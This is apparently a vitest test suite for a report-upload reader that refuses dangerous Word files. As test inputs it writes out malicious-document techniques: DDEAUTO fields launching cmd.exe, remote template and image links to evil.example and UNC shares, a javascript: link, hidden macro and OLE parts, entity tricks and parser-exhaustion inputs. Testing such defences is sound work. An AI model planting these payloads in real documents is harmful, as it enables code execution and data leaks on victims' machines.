import { expect, test } from 'vitest'

import { isLong } from '../../../../test/long.ts'
import {
  doc,
  docx,
  field,
  office,
  oleWith,
  readReport,
  relations,
  withBody,
} from '../../../../test/reports.ts'
import { longestStall, timeLimit } from '../../../../test/stall.ts'

const megabyte = 1024 * 1024

const relation = (attributes: string, part = 'word/_rels/document.xml.rels') =>
  docx({ [part]: relations(`<Relationship Id="1" ${attributes}/>`) })
const outside = /^The report refers to something outside/
const fetching = /^The report holds a field that fetches or runs something/
const embedded = /^The report holds an embedded object/
const macros = /^The report holds macros/
const tooMuch = /^The report holds too much/
const broken = /^The report cannot be read/

test.each<[string, Buffer, RegExp]>([
  [
    'a template whose address pretends to be a link',
    relation(
      `Type="${office}/attachedTemplate" Target="http://evil.example/? Type='/hyperlink'" TargetMode="External"`,
    ),
    outside,
  ],
  [
    'a picture on the web',
    relation(`Type="${office}/image" Target="https://evil.example/a.png" TargetMode="External"`),
    outside,
  ],
  [
    'a picture on another machine',
    relation(`Type="${office}/image" Target="\\\\evil\\share\\a.png" TargetMode="External"`),
    outside,
  ],
  [
    'a picture on another machine, called inner',
    relation(`Type="${office}/image" Target="\\\\evil\\a.png"`),
    outside,
  ],
  [
    'a picture of another scheme, called inner',
    relation(`Type="${office}/image" Target="file:///etc/a.png"`),
    outside,
  ],
  ['an address in disguise', relation(`Type="${office}/image" Target="%5c%5cevil%5ca.png"`), outside],
  [
    'an address with entities',
    relation(`Type="${office}/image" Target="&#104;ttp://evil.example/a"`),
    outside,
  ],
  [
    'a third mode',
    relation(`Type="${office}/hyperlink" Target="https://a.in" TargetMode="external"`),
    outside,
  ],
  [
    'a link to a file',
    relation(`Type="${office}/hyperlink" Target="file:///C:/a.exe" TargetMode="External"`),
    outside,
  ],
  [
    'a link that runs',
    relation(`Type="${office}/hyperlink" Target="javascript:alert(1)" TargetMode="External"`),
    outside,
  ],
  [
    'a type that only ends like a link',
    relation('Type="http://evil.example/hyperlink" Target="https://a.in" TargetMode="External"'),
    outside,
  ],
  ['an old picture on the web', withBody('<v:imagedata src="https://evil.example/a.png"/>'), outside],
  ['an old picture on another machine', withBody('<v:imagedata o:href="\\\\evil\\a.png"/>'), outside],
  ['mail merge data', withBody('<w:mailMerge/>', 'word/settings.xml'), outside],
  ['an altChunk', withBody('<w:altChunk r:id="1"/>'), embedded],
  ['an altChunk by its relation', relation(`Type="${office}/aFChunk" Target="a.html"`), embedded],
  ['a subdocument', withBody('<w:subDoc r:id="1"/>'), embedded],
  ['an OLE object', withBody('<o:OLEObject Type="Link"/>'), embedded],
  ['an ActiveX control', docx({ 'word/activeX/activeX1.bin': 'x' }), embedded],
  ['an embedded file', docx({ 'word/embeddings/oleObject1.bin': 'x' }), embedded],
  [
    'an embedded workbook that is no chart',
    relation(`Type="${office}/package" Target="embeddings/a.xlsx"`),
    embedded,
  ],
  ['a frame', relation(`Type="${office}/frame" Target="a.xml"`, 'word/_rels/webSettings.xml.rels'), embedded],
  ['DDE', withBody(field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')), fetching],
  ['DDE in pieces', withBody(field('DD', 'E', 'AUTO ', 'cmd')), fetching],
  ['DDE in a header', withBody(field(' ddeauto cmd'), 'word/header1.xml'), fetching],
  ['DDE in a footnote', withBody('<w:fldSimple w:instr=" DDE cmd"/>', 'word/footnotes.xml'), fetching],
  ['DDE in a part that is called a picture', withBody(field('DDE cmd'), 'word/media/image1.png'), fetching],
  ['DDE spelt by another field', withBody(field(field('QUOTE 68 68 69'), ' cmd')), fetching],
  ['DDE spelt by another field in part', withBody(field('D', field('QUOTE 68 69'), ' cmd')), fetching],
  [
    'DDE without an end',
    withBody('<w:fldChar w:fldCharType="begin"/><w:instrText>DDE cmd</w:instrText>'),
    fetching,
  ],
  ['a fetched picture', withBody(field('INCLUDEPICTURE "http://evil.example/a.png"')), fetching],
  ['a fetched text', withBody(field('INCLUDETEXT "\\\\\\\\evil\\\\a.docx"')), fetching],
  ['a field that links to another machine', withBody(field('HYPERLINK "\\\\\\\\evil\\\\a"')), outside],
  ['a field that links to a file', withBody(field('HYPERLINK \\o "http://a.in" "file:///c:/a"')), outside],
  ['a field that links without end', withBody(field(`HYPERLINK ${'"'.repeat(100_000)}`)), fetching],
  ['names that differ only in case', docx({ '[content_types].xml': '<Types/>' }), broken],
  ['names that differ only in spelling', docx({ 'word/d%6fcument.xml': '<a/>' }), broken],
  ['macros under another name', docx({ 'word/vba%50roject.bin': 'x' }), macros],
  ['unfinished XML', docx({ 'word/header1.xml': '<a><b></a>' }), broken],
  ['an entity of its own', docx({ 'word/header1.xml': '<a>&lol;</a>' }), broken],
  ['another encoding', docx({ 'word/header1.xml': '<?xml version="1.0" encoding="UTF-7"?><a/>' }), broken],
  [
    'a lie about its encoding',
    docx({ 'word/header1.xml': '<?xml version="1.0" encoding="UTF-16"?><a/>' }),
    broken,
  ],
  ['elements in elements', docx({ 'word/header1.xml': '<a>'.repeat(50_000) }), broken],
  [
    'attributes without end',
    docx({ 'word/header1.xml': `<a ${Array.from({ length: 50_000 }, (_, n) => `a${n}="1"`).join(' ')}/>` }),
    broken,
  ],
  ['a part that unfolds a thousandfold', docx({ 'word/media/a.bmp': new Uint8Array(8 * megabyte) }), tooMuch],
  ['a locked .doc', oleWith('EncryptedPackage', 2), /^The report is protected with a password/],
  ['a .doc with a storage for macros', oleWith('Macros', 1), macros],
  ['a .doc with an embedded file', oleWith('\u0001Ole10Native', 2), embedded],
  ['a .doc with a form control', oleWith('\u0003OCXNAME', 2), embedded],
  ['a .doc with DDE', doc(Buffer.from('\x13 DDEAUTO cmd \x14x\x15')), fetching],
  ['a .doc with DDE in wide letters', doc(Buffer.from('\x13DDE "cmd"', 'utf16le')), fetching],
])('%s is refused, with what to do about it', async (_name, file, message) => {
  await expect(readReport(file)).rejects.toMatchObject({
    code: 'unsupported_type',
    message: expect.stringMatching(message),
  })
})

test('a .doc that only speaks of macros and DDE is taken', async () => {
  const text = 'Macros, _VBA_PROJECT and DDEAUTO are explained in chapter 3.'
  await readReport(doc(Buffer.from(text + '\0'.repeat(400))))
  await readReport(doc(Buffer.from(text, 'utf16le')))
})

test('a document with embedded fonts is taken, whose beginning is encrypted and may look like XML', async () => {
  const font = (beginning: number) => Buffer.alloc(300, 1).fill(beginning, 0, 1)
  const fonts = Array.from({ length: 256 }, (_, n) => [`word/fonts/font${n}.odttf`, font(n)] as const)
  await readReport(docx(Object.fromEntries(fonts)))
})

test('a large text is read in pieces, between which others are served', async () => {
  const text = `<a>${Array.from({ length: isLong ? 500_000 : 100_000 }, (_, n) => `<w b="${n % 997}">text &amp; more ${n}</w>`).join('')}</a>`
  const file = docx({ 'word/header1.xml': text })
  expect(await longestStall(() => readReport(file))).toBeLessThan(timeLimit(500))
})
